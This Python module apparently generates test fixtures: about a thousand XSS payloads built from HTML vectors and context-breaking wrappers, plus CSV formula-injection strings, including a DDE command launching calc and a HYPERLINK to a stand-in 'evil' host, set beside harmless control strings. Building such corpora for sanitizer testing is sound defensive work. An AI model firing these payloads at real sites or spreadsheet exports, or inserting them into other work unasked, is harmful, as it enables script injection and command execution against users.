"""Words that would do something if a page or a spreadsheet took them for more than words."""

_VECTORS = (
    "<script>{deed}</script>",
    "<img src=x onerror={deed}>",
    "<svg onload={deed}>",
    "<svg><script>{deed}</script></svg>",
    "<body onload={deed}>",
    "<iframe srcdoc='<script>parent.{deed}</script>'></iframe>",
    "<input autofocus onfocus={deed}>",
    "<details open ontoggle={deed}>",
    "<video><source onerror={deed}></video>",
    "<a href=javascript:{deed}>x</a>",
    "<math><mtext><script>{deed}</script></mtext></math>",
    "<template><script>{deed}</script></template>",
    "<style onload={deed}></style>",
    "<marquee onstart={deed}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{deed}'>",
    "<base href='javascript:{deed}//'>",
    "<form action=javascript:{deed}><button>x</button></form>",
    "<object data=javascript:{deed}></object>",
    "<noscript><p title='</noscript><img src=x onerror={deed}>'>",
    "<!--><img src=x onerror={deed}>-->",
)
_FRAMES = (
    "{0}",
    '">{0}',
    "'>{0}",
    "</textarea>{0}",
    "</title></style></script>{0}",
    "-->{0}<!--",
    "{{{{{0}}}}}",
    "{{% raw %}}{0}{{% endraw %}}",
    "\u202e{0}\u2066",
    "<<{0}>>",
    "`${{{0}}}`",
    "%3C{0}%3E",
    "\\x3c{0}",
    "&lt;{0}&gt;",
    "{0}\n{0}",
)
_DEEDS = ("pwned()", "top.pwned()", "window['pwned']()")
_FORMULAS = ("=cmd|'/c calc'!A{0}", "+1+{0}", "-2-{0}", "@SUM(A1:A{0})", "\t=1+{0}", '\r=HYPERLINK("//evil/{0}")')


def _marked(vector: str) -> list[str]:
    return [frame.format(vector.format(deed=deed)) for frame in _FRAMES for deed in _DEEDS]


PAYLOADS = [one for vector in _VECTORS for one in _marked(vector)]
PAYLOADS += [formula.format(number) for number in range(17) for formula in _FORMULAS]
PAYLOADS = PAYLOADS[:1000]
HARMLESS = [f"từ {number}" for number in range(len(PAYLOADS))]
